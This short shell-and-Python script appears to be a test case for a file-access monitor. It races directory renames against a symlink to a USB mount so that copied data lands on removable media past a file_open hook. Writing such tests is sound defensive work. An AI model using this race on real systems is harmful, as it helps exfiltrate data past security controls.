#!/usr/bin/env bash
# technique: two directories exchange their names while a copy is being opened below one of them
# hooks: file_open
# sink: usb

. attack.sh
python3 - <<'PY'
from attack import *

own, way = f"{ROOM}/own", f"{ROOM}/way"
os.mkdir(own)
os.symlink(os.environ["USB"], way)


def exchange():
    for _ in range(100):
        os.rename(own, f"{ROOM}/aside")
        os.rename(way, own)
        os.rename(f"{ROOM}/aside", way)


name = os.path.basename(COPY)
turner = apart(exchange)
data = scan()
for _ in range(40):
    try:
        keep(data, f"{ROOM}/own/{name}")
        keep(data, f"{ROOM}/way/{name}")
    except OSError:
        pass
os.waitpid(turner, 0)
# The race may have been lost each time: the names at rest are refused for certain.
keep(data, f"{ROOM}/way/{name}")
PY
